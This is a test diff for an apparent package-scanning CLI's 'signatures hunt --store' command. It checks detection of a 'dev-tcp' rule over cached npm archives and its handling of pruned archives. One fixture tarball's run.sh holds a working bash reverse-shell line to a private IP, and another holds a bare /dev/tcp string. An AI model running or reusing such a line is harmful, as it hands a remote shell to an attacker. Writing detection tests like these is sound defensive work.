@@ -115,3 +115,40 @@ describe('mcp-assay signatures', () => {
     expect(r.code, r.stdout).toBe(0);
   });
 });
+
+describe('signatures hunt --store', () => {
+  it('hunts over stored npm versions whose archives are in the cache, and says which were pruned', async () => {
+    const { buildTestReport } = await import('../report/test-helpers/report-builder.js');
+    const { openStore } = await import('../store/index.js');
+    const { openArchiveCache } = await import('../fetch/archive-cache.js');
+    const { buildPackageTarball, sha512Integrity } = await import('../fetch/test-helpers/registry-server.js');
+    const dir = await tempDir('hunt-store');
+    const db = path.join(dir, 'assay.db');
+    const cacheDir = path.join(dir, 'cache');
+    const hostile = await buildPackageTarball({ 'package.json': '{"name":"shelly","version":"1.0.0"}', 'run.sh': 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n' });
+    const pruned = await buildPackageTarball({ 'package.json': '{"name":"gone","version":"2.0.0"}', 'a.sh': '/dev/tcp/1.1.1.1/1\n' });
+    const store = openStore(db);
+    for (const [name, version, tgz] of [['shelly', '1.0.0', hostile], ['gone', '2.0.0', pruned]] as const) {
+      const report = buildTestReport({ name, version });
+      store.saveReport({ ...report, target: { ...report.target, integrity: sha512Integrity(tgz) } });
+    }
+    store.close();
+    const cache = await openArchiveCache({ dir: cacheDir });
+    await cache.put(sha512Integrity(hostile), hostile);
+
+    const r = await runCli(['signatures', 'hunt', good, '--store', '--db', db, '--cache-dir', cacheDir, '--format', 'json']);
+    expect(r.code).toBe(0);
+    const parsed = JSON.parse(r.stdout) as { targets: { target: string; status: string; error?: string; matches: { rule: string; file: string }[] }[] };
+    const byTarget = new Map(parsed.targets.map((t) => [t.target, t]));
+    expect(byTarget.get('npm:shelly@1.0.0')?.matches).toEqual([expect.objectContaining({ rule: 'dev-tcp', file: 'run.sh' })]);
+    expect(byTarget.get('npm:gone@2.0.0')).toMatchObject({ status: 'skipped', matches: [] });
+    expect(byTarget.get('npm:gone@2.0.0')?.error).toMatch(/not in the cache/);
+  });
+
+  it('refuses a hunt with neither targets nor --store, and a missing store', async () => {
+    expect((await runCli(['signatures', 'hunt', good])).code).toBe(2);
+    const r = await runCli(['signatures', 'hunt', good, '--store', '--db', path.join(work, 'nope.db')]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/no store at/);
+  });
+});
